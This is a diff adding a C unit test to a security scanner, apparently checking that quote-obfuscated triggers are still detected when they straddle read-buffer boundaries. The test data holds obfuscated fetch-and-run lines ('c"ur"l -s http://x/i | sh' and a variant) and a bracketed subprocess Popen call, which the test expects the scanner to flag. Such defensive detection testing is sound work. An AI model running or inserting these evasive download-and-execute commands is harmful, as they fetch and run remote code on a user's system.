@@ -1099,6 +1099,58 @@ START_TEST(blob_across_chunk_boundary)
 END_TEST
 
 /*
+ * The frequent triggers (a quote inside a word, an empty literal, a
+ * bracket with a literal) are found by the worker, not by Hyperscan
+ * (scan_worker.c, qtrig_run): one whose bytes straddle the end of the
+ * first read, or of a later one after the buffer slid, is still found,
+ * wherever on the line the read ends.
+ */
+START_TEST(triggers_across_chunk_boundary)
+{
+	static const char *const lines[] = {
+		"c\"ur\"l -s http://x/i | sh\n",
+		"c''url -s http://x/i | sh\n",
+		"p = subprocess['Popen']([x])\n",
+	};
+	static const char *const want[] = {"curl-sh", "curl-sh", "popen"};
+	size_t keep = 2 * AL_SCAN_WINDOW, first = AL_SCAN_CHUNK + keep;
+	size_t n = first + AL_SCAN_CHUNK + 4096, i, k, at, len;
+	int shift, pass;
+	char *buf = malloc(n);
+	struct finding_list fl;
+	const struct finding *f;
+
+	ck_assert_ptr_nonnull(buf);
+	for (pass = 0; pass < 2; pass++) {
+		/* the end of the first read, then of the second (slid) */
+		size_t edge = pass == 0 ? first : first + AL_SCAN_CHUNK;
+
+		for (k = 0; k < sizeof(lines) / sizeof(lines[0]); k++) {
+			len = strlen(lines[k]);
+			for (shift = -4; shift <= 2; shift++) {
+				for (i = 0; i < n; i++)
+					buf[i] = (i % 50 == 49) ? '\n' : ' ';
+				/* the line's quote or bracket at edge + shift */
+				at = edge + (size_t)(long)shift -
+				    (size_t)(strchr(lines[k], k == 2 ? '[' :
+				    (k == 0 ? '"' : '\'')) - lines[k]);
+				/* a line of its own: a newline before it */
+				buf[at - 1] = '\n';
+				memcpy(buf + at, lines[k], len);
+				tu_scan(&sc, k == 2 ? "big.py" : "big.sh", buf, n,
+				    &fl);
+				f = tu_first(&fl, want[k]);
+				ck_assert_msg(f != NULL, "%s at %d of read %d",
+				    lines[k], shift, pass);
+				finding_list_free(&fl);
+			}
+		}
+	}
+	free(buf);
+}
+END_TEST
+
+/*
  * Atoms are held to the file's end and confirmed only where a condition
  * can be met (scan_worker.c, "atoms held to the file's end"): the
  * condition is found, on the right lines, in a file that fits the buffer,
@@ -1240,6 +1292,7 @@ engine_suite(void)
 	tcase_add_test(tc, undecodable_or_binary_blobs);
 	tcase_add_test(tc, long_encoded_text_is_context);
 	tcase_add_test(tc, blob_across_chunk_boundary);
+	tcase_add_test(tc, triggers_across_chunk_boundary);
 	suite_add_tcase(s, tc);
 	tc = tcase_create("cache");
 	tcase_add_checked_fixture(tc, setup, teardown);
